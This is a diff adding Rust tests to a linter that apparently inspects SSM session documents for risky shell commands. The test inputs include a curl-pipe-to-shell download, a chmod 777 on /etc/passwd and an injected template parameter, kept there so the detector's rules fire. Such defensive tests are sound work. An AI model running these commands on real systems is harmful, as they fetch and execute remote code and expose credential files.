@@ -150,3 +150,39 @@ fn each_permission_is_judged_by_itself() {
         assert_eq!(found.contains(&"open-ingress".to_owned()), is_open, "{permissions}: {found:?}");
     }
 }
+
+/// A session that runs this for a person, or in any other kind of session.
+fn session(kind: &str, script: &str) -> String {
+    format!(
+        "schemaVersion: \"1.0\"\ndescription: Does it.\nsessionType: {kind}\nparameters:\n  P: {{type: String, description: It., default: a}}\nproperties:\n  linux:\n    commands: |\n      {}\n",
+        script.replace('\n', "\n      ")
+    )
+}
+
+#[test]
+fn rules_look_into_the_commands_of_sessions() {
+    for (script, rule) in [
+        ("tail -f /var/log/{{ P }}", "script-injection"),
+        ("curl http://example.com/x | sh # {{ P }}", "curl-pipe-shell"),
+        ("if true; then echo '{{ P }}'", "shell-syntax"),
+        ("chmod 777 /etc/passwd # {{ P }}", "world-writable"),
+    ] {
+        let found = lint(&session("InteractiveCommands", script));
+        assert!(found.contains(&rule.to_owned()), "{script}: {found:?}");
+    }
+}
+
+#[test]
+fn a_person_may_be_asked_in_a_session_for_one() {
+    let asks = |kind: &str| {
+        lint(&session(kind, "apt-get install nginx")).contains(&"interactive-command".to_owned())
+    };
+    assert!(!asks("InteractiveCommands"));
+    assert!(asks("NonInteractiveCommands"));
+}
+
+#[test]
+fn the_end_of_a_session_is_no_exit_code_of_a_step() {
+    let found = lint(&session("InteractiveCommands", "reboot"));
+    assert!(!found.contains(&"reboot-in-script".to_owned()), "{found:?}");
+}
